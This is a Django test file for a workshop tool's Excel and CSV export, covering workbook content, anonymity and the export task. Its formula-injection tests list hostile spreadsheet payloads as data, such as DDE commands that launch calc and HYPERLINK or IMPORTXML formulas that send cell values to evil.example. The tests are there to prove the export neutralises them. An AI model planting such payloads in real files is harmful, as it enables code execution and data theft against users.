"""The Excel export and the CSV: workbook content, no formula injection, LibreOffice, anonymity, the Celery task,
expiry, the management command and who may use the pages."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import uuid
import zipfile
from datetime import date, datetime, timedelta
from pathlib import Path
from types import SimpleNamespace
from unittest import mock
from xml.etree import ElementTree

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from facilitation import services as live_services
from facilitation.models import LiveState, Phase, Room, RoomMember, Round
from reports import services, tasks
from reports.contributions import COLUMN_KEYS, COLUMNS, contribution_count
from reports.models import Category, CommentCategory, Export
from reports.workbook import CATEGORY_COLUMN, build_workbook, cell, clean_text, new_workbook, sheet_title
from tests.conftest import require_service
from tests.facilitation.conftest import guest_client, viewer_of
from tests.facilitation.factories import CommentFactory, IdeaFactory
from tests.workshops.factories import ParticipantFactory
from workshops.models import Participant

pytestmark = pytest.mark.django_db
CANARY_ID = 987654
TEXT = "Hyvä käytäntö: äiti, öljy ja åkerö\ntoinen rivi"
FORMULAS = [
    '=HYPERLINK("http://example.com/x","klikkaa")',
    "+358 40 123 4567",
    "-1+1",
    "@SUM(A1:A2)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "#N/A",
]
# Text the comment service would trim, written straight into the database.
HIDDEN_FORMULAS = ["\t=1+1", "\r=1+1"]


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def write(workshop, person, text, *, phase=None, prompt=None, parent=None, anonymous=False, room=None):
    phase = phase or LiveState.objects.get(pk=workshop.pk).current_phase
    comment, _created = live_services.comment_create(
        viewer=viewer_of(workshop, participant=person),
        phase_id=phase.pk,
        prompt_id=prompt.pk if prompt else None,
        parent_id=parent.pk if parent else None,
        text=text,
        anonymous=anonymous,
        client_id=uuid.uuid4(),
        language="fi",
        room_id=room.pk if room else None,
    )
    return comment


@pytest.fixture
def data(live_workshop, facilitator):
    """A workshop with every kind of row: named, anonymous, reply, hidden, deleted, reflection, room note, summary."""
    workshop = live_workshop
    now = timezone.now()
    cases = list(workshop.cases.order_by("position"))
    aino = ParticipantFactory(
        workshop=workshop,
        name="Aino Ääninen",
        organisation_name="Esimerkkilä",
        department="Nuoriso",
        role_group=Participant.RoleGroup.STAFF,
        invited_at=now,
        first_joined_at=now,
    )
    bertil = ParticipantFactory(workshop=workshop, name="Bertil Åkerlund", invited_at=now, first_joined_at=now)
    ParticipantFactory(workshop=workshop, name="Cecilia Kutsuttu", invited_at=now)
    leader = ParticipantFactory(
        workshop=workshop, name="Rauha Ryhmänvetäjä", role=Participant.Role.GROUP_LEADER, first_joined_at=now
    )
    staff = viewer_of(workshop, user=facilitator, staff=True)
    named = write(workshop, aino, TEXT)
    anonymous = write(workshop, aino, "Nimetön huomio", anonymous=True)
    reply = write(workshop, bertil, "Samaa mieltä", parent=named)
    hidden = write(workshop, bertil, "Asiaton kommentti")
    live_services.comment_hide(viewer=staff, comment_id=hidden.pk)
    deleted = write(workshop, aino, "Poistettu kommentti")
    live_services.comment_delete(viewer=viewer_of(workshop, participant=aino), comment_id=deleted.pk)
    reflection = workshop.phases.filter(kind=Phase.Kind.REFLECTION).order_by("position").first()
    reflected = write(workshop, aino, "Opin paljon", phase=reflection, prompt=reflection.prompts.first())
    round_ = Round.objects.create(workshop=workshop, number=1, started_at=now)
    room = Room.objects.create(round=round_, index=0, case=cases[1], leader=leader)
    for person in (aino, bertil):
        RoomMember.objects.create(round=round_, room=room, participant=person)
    note = write(workshop, aino, "Ryhmän muistiinpano", room=room)
    live_services.room_summary_save(viewer=staff, room_id=room.pk, text="Yhteenveto: kolme ideaa")
    resources = Category.objects.create(workshop=workshop, name="Resurssit", description="Raha ja aika")
    Category.objects.create(workshop=workshop, name="Osaaminen")
    CommentCategory.objects.create(comment=named, category=resources)
    return SimpleNamespace(
        workshop=workshop,
        cases=cases,
        aino=aino,
        bertil=bertil,
        leader=leader,
        named=named,
        anonymous=anonymous,
        reply=reply,
        hidden=hidden,
        deleted=deleted,
        reflected=reflected,
        reflection=reflection,
        room=room,
        note=note,
    )


def built(workshop, tmp_path, language="en"):
    path = tmp_path / f"workbook-{language}.xlsx"
    rows = build_workbook(workshop, path, language=language)
    return path, rows


def records(sheet) -> list[dict]:
    """The sheet's data rows as dicts keyed like contribution rows."""
    return [dict(zip(COLUMN_KEYS, row, strict=True)) for row in sheet.iter_rows(min_row=2, values_only=True)]


def sheet_xml(path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist() if name.endswith(".xml")}


def headers(language="en") -> list[str]:
    with translation.override(language):
        return [str(column.header) for column in COLUMNS]


def col(key: str) -> str:
    from openpyxl.utils import get_column_letter

    return get_column_letter(COLUMN_KEYS.index(key) + 1)


# --- workbook content ----------------------------------------------------------------------------------
def test_the_workbook_has_every_contribution_with_its_context(data, tmp_path):
    path, written = built(data.workshop, tmp_path)
    book = load_workbook(path)
    cases = data.cases
    assert book.sheetnames == ["All contributions", *(case.title for case in cases), "Categories", "Participation"]
    main = book["All contributions"]
    assert [c.value for c in main[1]] == headers()
    assert "Text" in [c.value for c in main[1]]
    rows = records(main)
    assert len(rows) == contribution_count(data.workshop) == 7
    by_id = {row["id"]: row for row in rows}
    assert f"C{data.deleted.pk}" not in by_id

    named = by_id[f"C{data.named.pk}"]
    assert named["text"] == TEXT  # ä, ö, å and the line break survive
    assert named["author"] == "Aino Ääninen" and named["organisation"] == "Esimerkkilä"
    assert named["department"] == "Nuoriso" and named["role_group"] == "Staff"
    assert named["case"] == cases[0].title and named["kind"] == "Comment"
    assert named["category"] == "Resurssit"
    assert isinstance(named["created"], datetime) and isinstance(named["date"], datetime)

    anonymous = by_id[f"C{data.anonymous.pk}"]
    assert anonymous["author"] == "anonymous"
    assert anonymous["organisation"] is None and anonymous["department"] is None

    assert by_id[f"C{data.reply.pk}"]["parent"] == f"C{data.named.pk}"
    assert by_id[f"C{data.reply.pk}"]["kind"] == "Reply"
    assert by_id[f"C{data.hidden.pk}"]["hidden"] == "yes" and named["hidden"] is None
    reflected = by_id[f"C{data.reflected.pk}"]
    assert reflected["kind"] == "Reflection" and reflected["prompt"] == data.reflection.prompts.first().text

    note = by_id[f"C{data.note.pk}"]
    assert note["kind"] == "Room note" and note["round"] == 1 and note["room"] == "A"
    assert note["leader"] == "Rauha Ryhmänvetäjä" and note["case"] == cases[1].title
    summary = by_id[f"S{data.room.pk}"]
    assert summary["kind"] == "Room summary" and summary["text"] == "Yhteenveto: kolme ideaa"
    assert summary["round"] == 1 and summary["room"] == "A" and summary["leader"] == "Rauha Ryhmänvetäjä"

    per_case = sum(len(records(book[case.title])) for case in cases)
    assert written == len(rows) + per_case


def test_cells_are_typed_and_formatted_and_the_sheet_is_ready_to_filter(data, tmp_path):
    path, _rows = built(data.workshop, tmp_path)
    main = load_workbook(path)["All contributions"]
    last = main.max_row
    assert last == 8
    assert main.freeze_panes == "A2"
    assert main.auto_filter.ref == f"A1:{col('notes')}{last}"
    assert main.column_dimensions[col("text")].width == 60
    assert main.column_dimensions[col("id")].width == 10
    created, day, text = main[f"{col('created')}2"], main[f"{col('date')}2"], main[f"{col('text')}2"]
    assert created.is_date and created.number_format == "yyyy-mm-dd hh:mm"
    assert day.is_date and day.number_format == "yyyy-mm-dd"
    assert text.data_type == "s" and text.alignment.wrap_text
    assert main[f"{col('agree')}2"].data_type == "n"
    assert main["A1"].font.bold


def test_every_case_has_its_own_sheet_with_only_its_rows(data, tmp_path):
    path, _rows = built(data.workshop, tmp_path)
    book = load_workbook(path)
    for case in data.cases:
        rows = records(book[case.title])
        assert len(rows) == contribution_count(data.workshop, case.pk)
        assert {row["case"] for row in rows} <= {case.title}
        assert book[case.title].freeze_panes == "A2"
        assert book[case.title].auto_filter.ref == f"A1:{col('notes')}{len(rows) + 1}"
    second = records(book[data.cases[1].title])
    assert {row["id"] for row in second} == {f"C{data.note.pk}", f"S{data.room.pk}"}


def test_category_cells_offer_the_codebook_as_a_drop_down(data, tmp_path):
    path, _rows = built(data.workshop, tmp_path)
    book = load_workbook(path)
    categories = book["Categories"]
    assert [[c.value for c in row] for row in categories.iter_rows()] == [
        ["Name", "Description"],
        ["Osaaminen", None],
        ["Resurssit", "Raha ja aika"],
    ]
    for title in ["All contributions", *(case.title for case in data.cases)]:
        sheet = book[title]
        validations = sheet.data_validations.dataValidation
        assert len(validations) == 1, title
        validation = validations[0]
        assert validation.type == "list"
        assert validation.formula1 == "'Categories'!$A$2:$A$3"
        last = max(sheet.max_row, 2)
        expected = f"{CATEGORY_COLUMN}2" if last == 2 else f"{CATEGORY_COLUMN}2:{CATEGORY_COLUMN}{last}"
        assert str(validation.sqref) == expected
        assert validation.errorStyle == "warning"  # "A; B" for several categories stays possible


def test_an_empty_codebook_gives_a_note_and_no_drop_down(live_workshop, tmp_path):
    path, rows = built(live_workshop, tmp_path)
    book = load_workbook(path)
    assert rows == 0
    categories = book["Categories"]
    assert [c.value for c in categories[1]] == ["Name", "Description"]
    assert "no categories yet" in categories["A3"].value
    assert book["All contributions"].data_validations.dataValidation == []
    assert book["All contributions"].auto_filter.ref == f"A1:{col('notes')}1"


def test_participation_counts_people_and_contributions_per_case_round_and_room(data, tmp_path):
    path, _rows = built(data.workshop, tmp_path)
    values = [tuple(c for c in row) for row in load_workbook(path)["Participation"].iter_rows(values_only=True)]
    assert values[0][:2] == ("Participants", "Count")
    assert values[1][:2] == ("On the participant list", 4)
    assert values[2][:2] == ("Invited", 3)
    assert values[3][:2] == ("Joined", 3)
    assert values[4][:2] == ("Active (wrote at least one contribution)", 2)
    start = values.index(("Case", "Contributions", None, None, None, None, None))
    counts = {row[0]: row[1] for row in values[start + 1 : start + 4]}
    assert counts == {case.title: contribution_count(data.workshop, case.pk) for case in data.cases}
    assert counts[data.cases[1].title] == 2
    assert ("Round", "Rooms", "Members", "Room notes", None, None, None) in values
    assert (1, 1, 2, 1, None, None, None) in values
    assert (1, "A", data.cases[1].title, "Rauha Ryhmänvetäjä", 2, 1, "yes") in values
    # counts only: no participant's name appears on this sheet, leaders excepted
    flat = " ".join(str(value) for row in values for value in row if value is not None)
    assert "Aino" not in flat and "Bertil" not in flat


def test_headers_and_words_follow_the_language(data, tmp_path):
    path, _rows = built(data.workshop, tmp_path, language="fi")
    book = load_workbook(path)
    assert book.sheetnames == ["Kommentit", *(case.title for case in data.cases), "Luokat", "Osallistuminen"]
    main = book["Kommentit"]
    finnish = [c.value for c in main[1]]
    assert finnish == headers("fi")
    assert {"Teksti", "Luokka", "Kirjoittaja", "Kierros"} <= set(finnish)
    assert records(main)[1]["author"] == "nimetön"
    assert records(main)[0]["kind"] != "Comment"
    assert main.data_validations.dataValidation[0].formula1 == "'Luokat'!$A$2:$A$3"
    with translation.override("fi"):
        assert [c.value for c in book["Luokat"][1]] == [translation.gettext("Name"), translation.gettext("Description")]
    path, _rows = built(data.workshop, tmp_path, language="sv")
    assert load_workbook(path).sheetnames[0] == "Kommentarer"


def test_sheet_titles_are_valid_unique_and_short():
    taken: set[str] = set()
    titles = [
        sheet_title("Kirjasto: olohuone / kohtaamispaikka? [pilotti] *uusi* \\ 2026", taken, "Case 1"),
        sheet_title("Sama nimi", taken, "Case 2"),
        sheet_title("sama nimi", taken, "Case 3"),
        sheet_title("x" * 40, taken, "Case 4"),
        sheet_title("x" * 40, taken, "Case 5"),
        sheet_title("[]:*?/\\", taken, "Case 6"),
        sheet_title("History", taken, "Case 7"),
        sheet_title("Kesä\x01seteli\x0b\x1f", taken, "Case 8"),
    ]
    assert all(len(title) <= 31 and not re.search(r"[\[\]:*?/\\\x00-\x1f]", title) for title in titles)
    assert len({title.lower() for title in titles}) == len(titles)
    assert titles[1] == "Sama nimi" and titles[2] == "sama nimi (2)"
    assert titles[5] == "Case 6" and titles[6] == "History (2)"
    assert titles[7] == "Kesäseteli"


# --- formula injection ---------------------------------------------------------------------------------
def test_user_text_that_looks_like_a_formula_stays_text(data, tmp_path):
    workshop = data.workshop
    evil = ParticipantFactory(
        workshop=workshop, name="=cmd|' /C calc'!A0", organisation_name="@SUM(1+1)", first_joined_at=timezone.now()
    )
    for text in FORMULAS:
        write(workshop, evil, text)
    phase = LiveState.objects.get(pk=workshop.pk).current_phase
    for text in HIDDEN_FORMULAS:
        CommentFactory(phase=phase, workshop=workshop, author_participant=evil, text=text)
    Category.objects.create(workshop=workshop, name="=1+2", description="-3")
    case = data.cases[2]
    case.title = "=HYPERLINK(1)"
    case.save()
    data.cases[1].title = "Categories"
    data.cases[1].save()

    path, _rows = built(workshop, tmp_path)
    for name, xml in sheet_xml(path).items():
        assert "<f>" not in xml and "<f " not in xml, f"a formula in {name}"
    book = load_workbook(path)
    main = book["All contributions"]
    texts = {c.value: c for c in main[col("text")][1:]}
    for text in FORMULAS:
        assert texts[text].data_type == "s", text
        assert texts[text].quotePrefix or text == "#N/A", text
    assert "\t=1+1" in texts and "\n=1+1" in texts  # a lone CR becomes a line break, still text
    authors = {c.value for c in main[col("author")][1:]}
    assert "=cmd|' /C calc'!A0" in authors
    assert book.sheetnames == [
        "All contributions",
        data.cases[0].title,
        "Categories (2)",
        "=HYPERLINK(1)",
        "Categories",
        "Participation",
    ]
    assert book["All contributions"].data_validations.dataValidation[0].formula1 == "'Categories'!$A$2:$A$4"
    assert ["=1+2", "-3"] in [[c.value for c in row] for row in book["Categories"].iter_rows()]


def test_the_cell_helper_never_makes_a_formula():
    book = new_workbook()
    sheet = book.create_sheet("x")
    for text in [*FORMULAS, *HIDDEN_FORMULAS, "=", "#DIV/0!"]:
        made = cell(sheet, text)
        assert made.data_type == "s" and made.quotePrefix, repr(text)
    # other text goes in as it is (openpyxl writes a plain string as text), cleaned of what a cell cannot hold
    assert cell(sheet, "a\x00b\x0bc\r\nd") == "abc\nd"
    assert cell(sheet, "") is None and cell(sheet, None) is None
    assert cell(sheet, 3) == 3
    assert cell(sheet, "Hyvä", "Kehittämö wrapped").alignment.wrap_text
    assert cell(sheet, date(2026, 1, 2)).number_format == "yyyy-mm-dd"
    assert cell(sheet, datetime(2026, 1, 2, 13, 5)).number_format == "yyyy-mm-dd hh:mm"


# --- LibreOffice ---------------------------------------------------------------------------------------
def test_libreoffice_opens_the_workbook_and_keeps_the_text(data, tmp_path):
    require_service("LibreOffice", shutil.which("soffice") is not None)
    write(data.workshop, data.aino, "=1+1")
    path, _rows = built(data.workshop, tmp_path)
    out = tmp_path / "converted"
    profile = tmp_path / "lo-profile"
    result = subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1",
            "--outdir",
            str(out),
            str(path),
        ],
        capture_output=True,
        text=True,
        timeout=180,
    )
    converted = out / f"{path.stem}.csv"
    assert converted.exists(), result.stdout + result.stderr
    rows = list(csv.reader(io.StringIO(converted.read_text(encoding="utf-8"))))
    header, body = rows[0], rows[1:]
    assert header == headers()
    by_id = {row[0]: dict(zip(COLUMN_KEYS, row, strict=True)) for row in body}
    named = by_id[f"C{data.named.pk}"]
    assert named["text"] == TEXT
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}", named["created"])
    anonymous = by_id[f"C{data.anonymous.pk}"]
    assert anonymous["author"] == "anonymous" and anonymous["organisation"] == ""
    assert any(row["text"] == "=1+1" for row in by_id.values())  # not calculated to 2


# --- anonymity -----------------------------------------------------------------------------------------
def leaks(text: str) -> list[str]:
    found = [marker for marker in ("Kanarialintu", "kanarialintu@example.fi", str(CANARY_ID)) if marker in text]
    found += [marker for marker in (f"p{CANARY_ID}", f'"{CANARY_ID}"') if marker in text]
    return found


def test_the_workbook_and_the_csv_never_name_an_anonymous_author(data, tmp_path, facilitator_client):
    workshop = data.workshop
    canary = ParticipantFactory(
        pk=CANARY_ID,
        workshop=workshop,
        name="Kanarialintu Kaivosmies",
        email="kanarialintu@example.fi",
        organisation_name="Kanarialinnun kunta",
        first_joined_at=timezone.now(),
    )
    RoomMember.objects.create(round=data.room.round, room=data.room, participant=canary)
    first = write(workshop, canary, "Salainen havainto", anonymous=True)
    write(workshop, canary, "Salainen vastaus", anonymous=True, parent=data.named)
    write(
        workshop,
        canary,
        "Salainen pohdinta",
        anonymous=True,
        phase=data.reflection,
        prompt=data.reflection.prompts.first(),
    )
    write(workshop, canary, "Salainen muistiinpano", anonymous=True, room=data.room)
    CommentCategory.objects.create(comment=first, category=Category.objects.get(name="Osaaminen"))

    for language in ("fi", "en"):
        path, _rows = built(workshop, tmp_path, language=language)
        everything = "\n".join(sheet_xml(path).values())
        assert "Salainen havainto" in everything and "Salainen muistiinpano" in everything
        assert leaks(everything) == [], f"the canary shows in the {language} workbook"
    response = facilitator_client.get(reverse("reports:export_csv", args=[workshop.pk]))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert "Salainen pohdinta" in text
    assert leaks(text) == [], "the canary shows in the CSV"


# --- the Celery task -----------------------------------------------------------------------------------
def stored_files(media) -> list[Path]:
    folder = Path(media) / "exports"
    return sorted(folder.iterdir()) if folder.exists() else []


@pytest.fixture
def request_export(facilitator, celery_eager, django_capture_on_commit_callbacks):
    celery_eager(True)

    def start(workshop, language="en"):
        with django_capture_on_commit_callbacks(execute=True):
            export = services.export_request(workshop=workshop, user=facilitator, language=language)
        export.refresh_from_db()
        return export

    return start


def test_the_task_builds_the_workbook_and_counts_its_rows(data, request_export, media):
    progress_calls = []
    real_set = services.export_progress_set

    def spy(**kwargs):
        progress_calls.append(kwargs)
        real_set(**kwargs)

    with mock.patch("reports.services.export_progress_set", side_effect=spy):
        export = request_export(data.workshop)
    assert export.status == Export.Status.DONE and export.is_available
    assert export.rows_total == export.rows_written > 7
    assert progress_calls[0]["rows_total"] == export.rows_total
    assert progress_calls[-1]["rows_written"] == export.rows_total
    assert export.attempts == 1 and export.language == "en" and export.error == ""
    assert export.finished_at and export.expires_at - export.finished_at == timedelta(days=services.EXPORT_KEEP_DAYS)
    assert stored_files(media) == [Path(export.file.path)]
    book = load_workbook(export.file.path)
    assert len(records(book["All contributions"])) == 7


def test_asking_again_while_a_workbook_is_being_built_returns_the_same_export(data, facilitator, request_export):
    running = Export.objects.create(workshop=data.workshop, status=Export.Status.RUNNING, requested_by=facilitator)
    with mock.patch("reports.tasks.export_build.delay") as delay:
        again = request_export(data.workshop)
    assert again.pk == running.pk and delay.call_count == 0
    assert Export.objects.filter(workshop=data.workshop).count() == 1


def test_a_lost_build_does_not_block_new_exports_for_ever(data, facilitator, request_export):
    stuck = Export.objects.create(
        workshop=data.workshop,
        status=Export.Status.PENDING,
        created_at=timezone.now() - services.EXPORT_STALE_AFTER - timedelta(minutes=1),
    )
    fresh = request_export(data.workshop)
    stuck.refresh_from_db()
    assert fresh.pk != stuck.pk and fresh.status == Export.Status.DONE
    assert stuck.status == Export.Status.FAILED and stuck.error


def test_running_the_task_twice_leaves_one_file(data, request_export, media):
    export = request_export(data.workshop)
    first_file = export.file.name
    tasks.export_build.delay(export.pk)  # a duplicate delivery of a finished export does nothing
    export.refresh_from_db()
    assert export.file.name == first_file and export.attempts == 1
    assert stored_files(media) == [Path(export.file.path)]

    # a crash after the file was stored but before the row said so: the rerun starts over, one file remains
    stray = Path(media) / "exports" / f"{export.pk}-left-by-a-crash.xlsx"
    stray.write_bytes(b"partial")
    Export.objects.filter(pk=export.pk).update(status=Export.Status.RUNNING, rows_written=3)
    tasks.export_build.delay(export.pk)
    export.refresh_from_db()
    assert export.status == Export.Status.DONE and export.attempts == 2
    assert stored_files(media) == [Path(export.file.path)] and export.file.name != first_file


def test_a_build_that_fails_once_is_retried_and_leaves_one_file(data, request_export, media):
    real_build = tasks.build_workbook
    calls = []

    def flaky(workshop, path, **kwargs):
        calls.append(path)
        rows = real_build(workshop, path, **kwargs)
        if len(calls) == 1:
            Path(media, "exports").mkdir(parents=True, exist_ok=True)
            raise ConnectionError("the database went away")
        return rows

    with mock.patch("reports.tasks.build_workbook", side_effect=flaky):
        export = request_export(data.workshop)
    assert len(calls) == 2
    assert export.status == Export.Status.DONE and export.attempts == 2 and export.error == ""
    assert export.rows_written == export.rows_total
    assert stored_files(media) == [Path(export.file.path)]


def test_a_build_that_keeps_failing_ends_failed_with_a_short_message(data, request_export, media, caplog):
    with mock.patch("reports.tasks.build_workbook", side_effect=ValueError("secret detail in /srv/path")) as build:
        export = request_export(data.workshop)
    assert build.call_count == 3  # the first attempt and two retries
    assert export.status == Export.Status.FAILED and export.attempts == 3
    assert export.error == "Building the workbook failed (ValueError). Please try again."
    assert "secret detail" not in export.error and "Traceback" not in export.error
    assert stored_files(media) == [] and not export.file
    assert "export failed" in caplog.text
    # the next request may start a new build
    with mock.patch("reports.tasks.export_build.delay") as delay:
        again = request_export(data.workshop)
    assert again.pk != export.pk and delay.call_count == 1


def test_a_run_that_finds_the_export_used_up_fails_it(data, facilitator):
    export = Export.objects.create(workshop=data.workshop, status=Export.Status.RUNNING, attempts=3)
    tasks.export_build.apply(args=[export.pk])
    export.refresh_from_db()
    assert export.status == Export.Status.FAILED and export.error


# --- expiry and download -------------------------------------------------------------------------------
def test_download_gives_the_file_named_after_the_workshop(data, request_export, facilitator_client):
    export = request_export(data.workshop)
    response = facilitator_client.get(reverse("reports:export_download", args=[data.workshop.pk, export.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == services.XLSX_CONTENT_TYPE
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="parastaminen-tyopaja-{today}.xlsx"'
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert "All contributions" in book.sheetnames


def test_an_expired_or_missing_workbook_answers_404(data, request_export, facilitator_client, media):
    export = request_export(data.workshop)
    url = reverse("reports:export_download", args=[data.workshop.pk, export.pk])
    Export.objects.filter(pk=export.pk).update(expires_at=timezone.now() - timedelta(minutes=1))
    assert facilitator_client.get(url).status_code == 404
    assert services.export_expire() == 1
    export.refresh_from_db()
    assert not export.file and stored_files(media) == []
    assert facilitator_client.get(url).status_code == 404

    other = Export.objects.create(workshop=data.workshop, status=Export.Status.RUNNING)
    assert (
        facilitator_client.get(reverse("reports:export_download", args=[data.workshop.pk, other.pk])).status_code == 404
    )


def test_a_file_gone_from_the_disk_answers_404(data, request_export, facilitator_client):
    export = request_export(data.workshop)
    Path(export.file.path).unlink()
    response = facilitator_client.get(reverse("reports:export_download", args=[data.workshop.pk, export.pk]))
    assert response.status_code == 404


# --- the CSV -------------------------------------------------------------------------------------------
def csv_text(client, workshop) -> tuple[bytes, str]:
    response = client.get(reverse("reports:export_csv", args=[workshop.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="parastaminen-tyopaja-')
    raw = b"".join(response.streaming_content)
    return raw, raw.decode("utf-8-sig")


def test_the_csv_is_excel_friendly(data, facilitator_client):
    for text in FORMULAS:
        write(data.workshop, data.aino, text)
    facilitator_client.cookies["kehittamo_language"] = "en"
    raw, text = csv_text(facilitator_client, data.workshop)
    assert raw.startswith(b"\xef\xbb\xbf")
    header_line = text.split("\r\n", 1)[0]
    assert header_line == ";".join(headers())
    assert f'"{TEXT}"' in text  # the line break is inside a quoted field
    assert re.search(r"[^\r]\n", text)  # ... and is a bare LF, while records end in CRLF
    assert text.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert len(rows) == 1 + contribution_count(data.workshop)
    by_id = {row[0]: dict(zip(COLUMN_KEYS, row, strict=True)) for row in rows[1:]}
    assert by_id[f"C{data.named.pk}"]["text"] == TEXT
    assert by_id[f"C{data.anonymous.pk}"]["author"] == "anonymous"
    assert by_id[f"C{data.anonymous.pk}"]["organisation"] == ""
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}", by_id[f"C{data.named.pk}"]["created"])
    texts = {row["text"] for row in by_id.values()}
    for formula in FORMULAS:
        if formula == "#N/A":
            assert formula in texts
        else:
            assert "'" + formula in texts, formula


def test_the_csv_headers_follow_the_users_language(data, facilitator_client):
    _raw, text = csv_text(facilitator_client, data.workshop)  # no cookie: Finnish
    assert "Teksti" in text.split("\r\n", 1)[0].split(";")
    assert "nimetön" in text


# --- the management command ----------------------------------------------------------------------------
def test_the_command_writes_the_same_workbook(data, tmp_path):
    target = tmp_path / "out.xlsx"
    out = io.StringIO()
    call_command("export_workbook", str(data.workshop.pk), "--language", "en", "--output", str(target), stdout=out)
    assert str(target.resolve()) in out.getvalue()
    book = load_workbook(target)
    assert book.sheetnames[0] == "All contributions"
    assert len(records(book["All contributions"])) == 7


def test_the_command_refuses_an_unknown_workshop():
    from django.core.management.base import CommandError

    with pytest.raises(CommandError):
        call_command("export_workbook", "999999")


# --- the pages and who may use them --------------------------------------------------------------------
def test_the_export_page_offers_the_button_the_list_and_the_progress(data, request_export, facilitator_client):
    export = request_export(data.workshop)
    facilitator_client.cookies["kehittamo_language"] = "en"
    page = facilitator_client.get(reverse("reports:export", args=[data.workshop.pk])).content.decode()
    assert "Create the workbook" in page
    assert reverse("reports:export_download", args=[data.workshop.pk, export.pk]) in page
    assert 'role="status"' in page and "<progress" in page
    assert "js/export_progress.js" in page
    state = facilitator_client.get(reverse("reports:export_progress", args=[data.workshop.pk, export.pk])).json()
    assert state["done"] and state["percent"] == 100 and state["rows_written"] == state["rows_total"]
    assert state["download_url"] == reverse("reports:export_download", args=[data.workshop.pk, export.pk])
    assert state["text"].startswith("The workbook is ready")


def test_starting_from_the_page_builds_in_the_pages_language(
    data, facilitator_client, celery_eager, django_capture_on_commit_callbacks
):
    celery_eager(True)
    facilitator_client.cookies["kehittamo_language"] = "sv"
    with django_capture_on_commit_callbacks(execute=True):
        response = facilitator_client.post(reverse("reports:export_start", args=[data.workshop.pk]))
    assert response.status_code == 302 and response.url == reverse("reports:export", args=[data.workshop.pk])
    export = Export.objects.get(workshop=data.workshop)
    assert export.language == "sv" and export.status == Export.Status.DONE
    assert facilitator_client.get(reverse("reports:export_start", args=[data.workshop.pk])).status_code == 405


def test_progress_of_another_workshops_export_is_404(data, facilitator_client):
    from tests.workshops.factories import WorkshopFactory

    other = Export.objects.create(workshop=WorkshopFactory(), status=Export.Status.RUNNING)
    url = reverse("reports:export_progress", args=[data.workshop.pk, other.pk])
    assert facilitator_client.get(url).status_code == 404


VIEWS = ["export", "export_start", "export_progress", "export_download", "export_csv"]


def _call(client, name, workshop, export):
    args = [workshop.pk, export.pk] if name in {"export_progress", "export_download"} else [workshop.pk]
    url = reverse(f"reports:{name}", args=args)
    return client.post(url) if name == "export_start" else client.get(url)


@pytest.mark.parametrize("name", VIEWS)
@pytest.mark.parametrize("who", ["facilitator", "contact_person", "outsider", "anonymous", "guest"])
def test_who_may_use_the_export_pages(
    name, who, data, facilitator, contact_person, outsider, celery_eager, django_capture_on_commit_callbacks
):
    celery_eager(True)
    with django_capture_on_commit_callbacks(execute=True):
        export = services.export_request(workshop=data.workshop, user=facilitator, language="en")
    client = Client()
    if who == "guest":
        client = guest_client(data.aino)
    elif who != "anonymous":
        client.force_login({"facilitator": facilitator, "contact_person": contact_person, "outsider": outsider}[who])
    with django_capture_on_commit_callbacks(execute=True):
        response = _call(client, name, data.workshop, export)
    if who in {"facilitator", "contact_person"}:
        expected = 302 if name == "export_start" else 200
        assert response.status_code == expected
        if name == "export_start":
            assert response.url == reverse("reports:export", args=[data.workshop.pk])
    elif who == "outsider":
        assert response.status_code == 404
    else:
        assert response.status_code == 302 and response.url.startswith(reverse("account_login"))


# --- formula injection: every variant in every text field that reaches an export --------------------------------
FORMULA_VARIANTS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    " =1+1",
    "   +1+1",
    "\u3000=1+1",
    "\xa0=1+1",
    "\t\t@SUM(1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"klikkaa")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    "=1+1\n=2+2",
    "\x0b=1+1",
    "\x01=1+1",
    "\x1f+1+1",
]


def _risky(value) -> bool:
    """A text a spreadsheet could run: a formula start after whitespace and control characters."""
    from workshops.importing import looks_like_formula

    return isinstance(value, str) and looks_like_formula(re.sub(r"[\x00-\x1f\x7f]", " ", value))


@pytest.fixture
def formulas(data):
    """Every variant in every text field that reaches the workbook or the CSV, stored as it is (no service trims)."""
    from facilitation.models import FeedbackAnswer, FeedbackResponse, Prompt, SurveyQuestion
    from facilitation.services import survey_ensure
    from workshops.models import Case

    workshop = data.workshop
    workshop.title = '=HYPERLINK("http://evil.example")'
    workshop.save(update_fields=["title"])
    round_ = data.room.round
    survey_ensure(workshop=workshop)
    question = SurveyQuestion.objects.filter(workshop=workshop, kind="text").first()
    question.text = "=1+1 kysymys"
    question.save(update_fields=["text"])
    ideas_phase = live_services.phase_create(
        workshop=workshop, kind=Phase.Kind.IDEAS, title="@ideat", duration_minutes=10
    )
    for index, variant in enumerate(FORMULA_VARIANTS):
        person = ParticipantFactory(
            workshop=workshop,
            name=variant,
            organisation_name=variant,
            department=variant,
            first_joined_at=timezone.now(),
        )
